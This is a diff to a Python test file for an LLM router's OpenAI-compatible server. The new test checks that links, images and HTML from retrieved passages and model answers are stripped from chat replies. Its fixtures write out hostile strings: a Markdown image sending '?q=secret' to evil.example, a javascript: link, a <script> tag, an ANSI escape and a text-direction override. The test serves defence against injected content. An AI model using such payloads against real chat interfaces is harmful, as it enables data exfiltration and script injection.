@@ -3,23 +3,25 @@
 import asyncio
 import io
 import json
-from collections.abc import AsyncIterator
+from collections.abc import AsyncIterator, Sequence
 from contextlib import asynccontextmanager
 from typing import Any
 
 import aiohttp
 import pytest
+from markdown_it import MarkdownIt
 
 from router.edge.http.openai_server import MAX_BODY_BYTES, openai_app
 from router.edge.http.server import HTTPServer
 from router.edge.status import HTTP_STATUS, STATUS
 from router.errors import BadConfig, UpstreamUnavailable
 from router.models import Completion, ScriptedModel, Usage
+from router.protocol import Passage
 from router.runs import Gateway, RequestOptions
 from router.trace import Run
 from router.trace.values import OnEvent
 from tests.router.clock import ended
-from tests.router.deployment import STOP, Deployment, HeldModel, Kept, block
+from tests.router.deployment import STOP, Deployment, HeldModel, Kept, block, report
 
 QUESTION = "Who directed Heat?"
 USER = {"role": "user", "content": QUESTION}
@@ -423,3 +425,54 @@ async def test_a_port_in_use() -> None:
     with pytest.raises(BadConfig, match=f"^server.http: cannot listen on {address}: .*in use"):
         await second.start(address, "server.http")
     await first.drain()
+
+
+HOSTILE_TITLE = (
+    "![x](http://evil.example/q.png) [click](javascript:alert(1))\n\n<img src=x> www.evil.example \x1b[31m\u202e"
+)
+QUOTE = "Heat <script>alert(1)</script> is a film by [Michael Mann](http://evil.example/?q=secret)."
+
+
+@pytest.mark.parametrize("stream", [False, True])
+async def test_texts_from_outside_are_text_to_chat_tools(stream: bool) -> None:
+    """Titles, quotes and documents bring no link, image or HTML, nor does what an answerer copied of them; its other
+    Markdown stays.
+    """
+    said = "**Mann** ![x](http://evil.example/?q=secret) [click](javascript:alert(1)) <img src=x>"
+    passage = Passage("p1", HOSTILE_TITLE, QUOTE, 0.9, "http://evil.example/heat.html")
+    deployment = Deployment(
+        delegator=ScriptedModel(lambda prompt: STOP if len(prompt.messages) > 2 else block(f"Who? {HOSTILE_TITLE}")),
+        executor=ScriptedModel(
+            lambda prompt: report("Mann", QUOTE) if len(prompt.messages) > 2 else f"<search>{HOSTILE_TITLE}</search>"
+        ),
+        answerer=ScriptedModel(lambda _prompt: f"<answer>{said}</answer>"),
+        retriever=AnyRetriever(passage),
+    )
+    async with served(deployment.gateway()) as session:
+        if stream:
+            async with session.post(PATH, json={"model": "rolegate", "messages": [USER], "stream": True}) as response:
+                deltas = [one["choices"][0]["delta"] for one in (await events(response))[:-1] if one["choices"]]
+            texts = ["".join(one.get(name, "") for one in deltas) for name in ("reasoning_content", "content")]
+        else:
+            _, reply = await posted(session)
+            texts = [reply["choices"][0]["message"]["content"]]
+            assert reply["rolegate"]["answer"] == said
+    assert "**Mann**" in texts[-1]
+    assert "Sources:\n[1] " in texts[-1]
+    for text in texts:
+        assert "evil" in text
+        assert text.replace("\n", "").isprintable()
+        for parser in (MarkdownIt("commonmark"), MarkdownIt("gfm-like")):
+            parsed = parser.disable("linkify", True).parse(text) if text == texts[-1] else parser.parse(text)
+            kinds = {child.type for token in parsed for child in (token, *(token.children or ()))}
+            assert not {"link_open", "image", "html_inline", "html_block"} & kinds
+
+
+class AnyRetriever:
+    """Finds one passage for every query."""
+
+    def __init__(self, passage: Passage) -> None:
+        self._passage = passage
+
+    async def search(self, queries: Sequence[str], top_k: int) -> list[list[Passage]]:
+        return [[self._passage] for _ in queries]
